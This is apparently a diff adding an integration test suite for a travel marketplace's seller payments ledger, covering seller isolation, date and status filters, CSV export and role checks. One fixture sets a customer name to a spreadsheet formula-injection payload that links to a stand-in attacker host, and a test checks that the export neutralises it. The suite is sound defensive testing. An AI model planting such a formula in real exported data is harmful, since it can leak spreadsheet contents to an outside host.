@@ -1,0 +1,312 @@
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { SELLER_A, SELLER_B } from "../support/bookings";
+import { fillCart, payAndConfirm, startCheckout } from "../support/payments";
+import { newCustomer } from "../support/security-fixtures";
+import { type Session, bearer, loginViaApi } from "../support/session";
+import { type TestWorker, startWorker } from "../support/worker";
+
+// Issue 15: the seller's payments ledger. Each seller sees their own share of a checkout and the refunds of it,
+// filtered by day in India and by status, as JSON, as a page (one D1 round trip) and as a CSV a spreadsheet opens
+// safely; no seller sees another's rows, and no other role sees a ledger at all.
+
+type Entry = {
+  id: string;
+  date: string;
+  kind: "payment" | "refund";
+  bookingId: string;
+  bookingRef: string;
+  packageName: string;
+  customerName: string;
+  amount: number;
+  status: string;
+  reference: string | null;
+  refundReason: string | null;
+};
+
+const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")';
+/** The seed's payments (worker/db/seed-data.ts): bk_w4 paid in January, bk_w6 paid and refunded in October. */
+const W4 = { ref: "TB-2026-000004", amount: 5_066_788 };
+const W6 = { ref: "TB-2026-000006", amount: 955_694 };
+
+let w: TestWorker;
+let sellerA: Session & { cookie: string };
+let sellerB: Session & { cookie: string };
+let customer: Session;
+/** The customer's checkout of one trip of each seller; seller B rejected theirs. */
+const paid = { paymentId: "", providerPaymentId: "", a: { id: "", total: 0 }, b: { id: "", total: 0 } };
+
+const bookingOf = (paymentId: string, sellerId: string) =>
+  w.d1
+    .prepare("SELECT b.id, b.total FROM bookings b JOIN payment_items i ON i.booking_id = b.id WHERE i.payment_id = ? AND b.seller_id = ?")
+    .bind(paymentId, sellerId)
+    .first<{ id: string; total: number }>()
+    .then((b) => b ?? { id: "", total: 0 });
+
+beforeAll(async () => {
+  w = await startWorker();
+  [sellerA, sellerB, customer] = await Promise.all([loginViaApi(w, SELLER_A), loginViaApi(w, SELLER_B), newCustomer(w, "ledger")]);
+  // Customer names are user input: this one is a spreadsheet formula.
+  const renamed = await w.api("PUT", "/api/auth/profile", { name: INJECTION, phone: null }, bearer(customer));
+  expect(renamed.status, JSON.stringify(renamed.body)).toBe(200);
+  await fillCart(w, bearer(customer), ["p_goa", "p_spiti"]);
+  const session = await startCheckout(w, bearer(customer));
+  const answer = await payAndConfirm(w, bearer(customer), session.paymentId);
+  paid.paymentId = session.paymentId;
+  paid.providerPaymentId = answer.razorpay_payment_id;
+  paid.a = await bookingOf(session.paymentId, "s_wanderlust");
+  paid.b = await bookingOf(session.paymentId, "s_himalayan");
+  const rejected = await w.api(
+    "PUT",
+    `/api/bookings/seller/bookings/${paid.b.id}/reject`,
+    { message: "Roads closed by snow" },
+    bearer(sellerB),
+  );
+  expect(rejected.body.data?.paymentStatus, JSON.stringify(rejected.body)).toBe("refunded");
+});
+afterAll(() => w?.dispose());
+
+async function ledger(as: Session, query = "") {
+  const res = await w.api("GET", `/api/seller-payments${query}`, undefined, bearer(as));
+  expect(res.status, JSON.stringify(res.body)).toBe(200);
+  return res.body as {
+    success: true;
+    data: Entry[];
+    pagination: { page: number; limit: number; total: number; pages: number };
+    totals: { received: number; refunded: number; net: number; refundPending: number };
+    chart: { bucket: "day" | "month"; points: { period: string; received: number; refunded: number }[] };
+  };
+}
+
+const csvOf = async (as: { cookie: string }, query = "") => {
+  const res = await w.request(`/api/seller-payments/export.csv${query}`, { headers: { cookie: as.cookie } });
+  const bytes = new Uint8Array(await res.arrayBuffer());
+  // Response.text() would drop the byte order mark this test looks for.
+  return { res, bytes, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes) };
+};
+
+/** Today in India, as the filters take it. */
+const today = () => new Date(Date.now() + 330 * 60_000).toISOString().slice(0, 10);
+
+describe("each seller's share of one checkout", () => {
+  it("shows seller A only A's trip and seller B only B's, with the amount each was paid", async () => {
+    expect(paid.a.total).toBeGreaterThan(0);
+    expect(paid.b.total).toBeGreaterThan(0);
+    const a = await ledger(sellerA, "?limit=100");
+    const ofA = a.data.filter((e) => e.bookingId === paid.a.id);
+    expect(ofA).toEqual([
+      expect.objectContaining({
+        kind: "payment",
+        amount: paid.a.total,
+        status: "received",
+        packageName: "Goa Beach Escape",
+        customerName: INJECTION,
+        reference: paid.providerPaymentId,
+        bookingRef: expect.stringMatching(/^TB-\d{4}-\d{6}$/),
+      }),
+    ]);
+    expect(a.data.some((e) => e.bookingId === paid.b.id)).toBe(false);
+
+    const b = await ledger(sellerB, "?limit=100");
+    expect(b.data.map((e) => [e.kind, e.bookingId, e.amount, e.status])).toEqual([
+      ["refund", paid.b.id, -paid.b.total, "refunded"],
+      ["payment", paid.b.id, paid.b.total, "received"],
+    ]);
+    expect(b.data[1].packageName).toBe("Spiti Valley Road Trip");
+  });
+
+  it("shows a rejection's refund as a refund entry, with its reason and the provider's refund id", async () => {
+    const b = await ledger(sellerB, "?status=refunded");
+    const refund = await w.d1
+      .prepare("SELECT provider_refund_id AS id FROM refunds WHERE booking_id = ?")
+      .bind(paid.b.id)
+      .first<{ id: string }>();
+    expect(b.data).toEqual([
+      expect.objectContaining({
+        kind: "refund",
+        bookingId: paid.b.id,
+        amount: -paid.b.total,
+        refundReason: "rejected",
+        reference: refund?.id,
+      }),
+    ]);
+    expect(refund?.id).toBeTruthy();
+  });
+
+  it("totals what came in and went back, the seed's payments included, and agrees with the tables", async () => {
+    const a = await ledger(sellerA);
+    const sum = (sql: string, ...args: unknown[]) =>
+      w.d1
+        .prepare(sql)
+        .bind(...args)
+        .first<{ n: number }>()
+        .then((r) => r?.n ?? 0);
+    const received = await sum(
+      "SELECT coalesce(sum(i.amount), 0) AS n FROM payment_items i JOIN payments p ON p.id = i.payment_id WHERE i.seller_id = ? AND p.status = 'captured'",
+      "s_wanderlust",
+    );
+    const refunded = await sum(
+      "SELECT coalesce(sum(amount), 0) AS n FROM refunds WHERE seller_id = ? AND status = 'processed'",
+      "s_wanderlust",
+    );
+    expect(received).toBeGreaterThanOrEqual(W4.amount + W6.amount + paid.a.total);
+    expect(a.totals).toEqual({ received, refunded, net: received - refunded, refundPending: 0 });
+    expect(a.pagination.total).toBe(a.data.length > 0 ? a.pagination.total : 0);
+
+    const b = await ledger(sellerB);
+    expect(b.totals).toEqual({ received: paid.b.total, refunded: paid.b.total, net: 0, refundPending: 0 });
+  });
+});
+
+describe("filters", () => {
+  it("takes dates as days in India: October holds bk_w6's payment and its refund, with a chart by day", async () => {
+    const october = await ledger(sellerA, "?from=2026-10-01&to=2026-10-31");
+    expect(october.data.map((e) => [e.date.slice(0, 10), e.kind, e.bookingRef, e.amount])).toEqual([
+      ["2026-10-09", "refund", W6.ref, -W6.amount],
+      ["2026-10-05", "payment", W6.ref, W6.amount],
+    ]);
+    expect(october.totals).toEqual({ received: W6.amount, refunded: W6.amount, net: 0, refundPending: 0 });
+    expect(october.chart).toEqual({
+      bucket: "day",
+      points: [
+        { period: "2026-10-05", received: W6.amount, refunded: 0 },
+        { period: "2026-10-09", received: 0, refunded: W6.amount },
+      ],
+    });
+    const january = await ledger(sellerA, "?from=2026-01-01&to=2026-01-31");
+    expect(january.data.map((e) => [e.kind, e.bookingRef, e.amount])).toEqual([["payment", W4.ref, W4.amount]]);
+    // A range of more than two months is charted by month.
+    expect((await ledger(sellerA, "?from=2026-01-01&to=2026-10-31")).chart.points.map((p) => p.period)).toEqual(["2026-01", "2026-10"]);
+  });
+
+  it("puts a payment captured at 00:30 in India on that Indian day, not on the UTC one before it", async () => {
+    const c = await newCustomer(w, "ledger-midnight");
+    await fillCart(w, bearer(c), ["p_jaipur"]);
+    const session = await startCheckout(w, bearer(c));
+    await payAndConfirm(w, bearer(c), session.paymentId);
+    await w.d1.prepare("UPDATE payments SET captured_at = '2026-03-31T19:00:00.000Z' WHERE id = ?").bind(session.paymentId).run();
+    const april = await ledger(sellerA, "?from=2026-04-01&to=2026-04-01");
+    expect(april.data.map((e) => e.packageName)).toEqual(["Royal Jaipur Heritage"]);
+    expect((await ledger(sellerA, "?from=2026-03-31&to=2026-03-31")).data).toEqual([]);
+    const { text } = await csvOf(sellerA, "?from=2026-04-01&to=2026-04-01");
+    expect(text.split("\r\n")[1]).toMatch(/^01\/04\/2026,"Payment",/);
+  });
+
+  it("filters by status, while the totals keep covering the whole range", async () => {
+    const all = await ledger(sellerB);
+    const received = await ledger(sellerB, "?status=received");
+    expect(received.data.map((e) => e.kind)).toEqual(["payment"]);
+    expect(received.totals).toEqual(all.totals);
+    expect((await ledger(sellerB, "?status=refund-pending")).data).toEqual([]);
+    const a = await ledger(sellerA, "?status=refunded");
+    expect(a.data.map((e) => e.bookingRef)).toEqual([W6.ref]);
+  });
+
+  it("pages the entries newest first", async () => {
+    const all = await ledger(sellerA, "?limit=100");
+    const second = await ledger(sellerA, "?limit=1&page=2");
+    expect(second.data.map((e) => e.id)).toEqual([all.data[1].id]);
+    expect(second.pagination).toEqual({ page: 2, limit: 1, total: all.data.length, pages: all.data.length });
+    const dates = all.data.map((e) => e.date);
+    expect(dates).toEqual([...dates].sort().reverse());
+  });
+
+  it("answers a bad query with 422 and the reason, never a 5xx", async () => {
+    for (const query of [
+      "?from=2026-13-01",
+      "?from=2026-02-30",
+      "?to=yesterday",
+      "?from=2026-11-02&to=2026-11-01",
+      "?status=paid",
+      "?limit=1000",
+      "?page=0",
+      "?from=2026-01-01&from=2026-02-01",
+    ]) {
+      for (const path of ["/api/seller-payments", "/api/seller-payments/export.csv"]) {
+        const res = await w.api("GET", `${path}${query}`, undefined, bearer(sellerA));
+        expect(res.status, `${path}${query}`).toBe(422);
+        expect(res.body).toMatchObject({ success: false, message: expect.any(String), issues: expect.any(Array) });
+      }
+    }
+    const page = await w.request("/seller-dashboard/payments?from=2026-11-02&to=2026-11-01", { headers: { cookie: sellerA.cookie } });
+    expect(page.status).toBe(400);
+    expect(await page.text()).toContain("The start date must be on or before the end date");
+  });
+});
+
+describe("the CSV", () => {
+  it("is a dated UTF-8 attachment with a BOM, CRLF lines, en-IN dates and rupees as plain numbers", async () => {
+    const { res, bytes, text } = await csvOf(sellerA, "?from=2026-10-01&to=2026-10-31");
+    expect(res.status).toBe(200);
+    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="tripbazaar-payments-\d{4}-\d{2}-\d{2}\.csv"$/);
+    expect(res.headers.get("cache-control")).toBe("private, no-store");
+    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(text.startsWith("\uFEFF")).toBe(true);
+    expect(text.endsWith("\r\n")).toBe(true);
+    expect(text.replace(/\r\n/g, "")).not.toContain("\n");
+    expect(text.slice(1).split("\r\n")).toEqual([
+      '"Date","Type","Booking","Package","Customer","Amount (₹)","Status","Reference"',
+      `05/10/2026,"Payment","${W6.ref}","Rishikesh Yoga and Rafting","Asha Verma",9556.94,"Received","pay_seed_bk_w6"`,
+      `09/10/2026,"Refund","${W6.ref}","Rishikesh Yoga and Rafting","Asha Verma",-9556.94,"Refunded","rfnd_seed_bk_w6"`,
+      "",
+    ]);
+  });
+
+  it("makes a customer's formula inert: prefixed with ' and its quotes doubled", async () => {
+    const { text } = await csvOf(sellerA, `?from=${today()}&to=${today()}`);
+    const row = text.split("\r\n").find((line) => line.includes("Goa Beach Escape"));
+    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")",`);
+    expect(row).toMatch(new RegExp(`,${(paid.a.total / 100).toFixed(2)},"Received",`));
+    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
+  });
+});
+
+describe("isolation and roles", () => {
+  const A_ONLY = [W4.ref, W6.ref, "Goa Beach Escape", "Munnar Tea Trails", "Rishikesh Yoga and Rafting", "pay_seed_bk_w4", "Asha Verma"];
+
+  it("never shows seller B seller A's rows: not in the JSON, the CSV or the page, whatever the query names", async () => {
+    const json = await w.api(
+      "GET",
+      "/api/seller-payments?limit=100&sellerId=s_wanderlust&seller_id=s_wanderlust",
+      undefined,
+      bearer(sellerB),
+    );
+    expect(json.status).toBe(200);
+    expect(json.body.data.every((e: Entry) => e.bookingId === paid.b.id)).toBe(true);
+    const { res, text: csv } = await csvOf(sellerB, "?sellerId=s_wanderlust");
+    expect(res.status).toBe(200);
+    expect(csv.split("\r\n").filter(Boolean)).toHaveLength(3);
+    const page = await w.request("/seller-dashboard/payments", { headers: { cookie: sellerB.cookie } });
+    expect(page.status).toBe(200);
+    const html = await page.text();
+    for (const answer of [JSON.stringify(json.body), csv, html])
+      for (const secret of [...A_ONLY, paid.a.id]) expect(answer, secret).not.toContain(secret);
+    expect(html).toContain("Spiti Valley Road Trip");
+  });
+
+  it("renders seller A's page on the server in one D1 round trip, with totals, the chart's figures and CSV link", async () => {
+    const res = await w.request("/seller-dashboard/payments?from=2026-10-01&to=2026-10-31", { headers: { cookie: sellerA.cookie } });
+    expect(res.status).toBe(200);
+    expect(res.headers.get("x-tb-d1-calls")).toBe("1");
+    const html = await res.text();
+    expect(html).toContain("<title>Payments · Seller dashboard | Tripbazaar</title>");
+    expect(html).toContain(W6.ref);
+    expect(html).toContain("₹9,556.94");
+    expect(html).toContain('href="/api/seller-payments/export.csv?from=2026-10-01&amp;to=2026-10-31"');
+    expect(html).toContain("Show the chart&#x27;s figures as a table");
+    expect(html).not.toContain(W4.ref);
+  });
+
+  it("refuses a customer (403) and a visitor without a session (401), as JSON", async () => {
+    for (const path of ["/api/seller-payments", "/api/seller-payments/export.csv"]) {
+      const asCustomer = await w.api("GET", path, undefined, bearer(customer));
+      expect(asCustomer.status, path).toBe(403);
+      expect(asCustomer.body.success).toBe(false);
+      const anonymous = await w.api("GET", path);
+      expect(anonymous.status, path).toBe(401);
+      expect(anonymous.body.success).toBe(false);
+    }
+    const page = await w.request("/seller-dashboard/payments", { headers: { cookie: (await loginViaApi(w, "asha@example.com")).cookie } });
+    expect(page.status).toBe(403);
+  });
+});
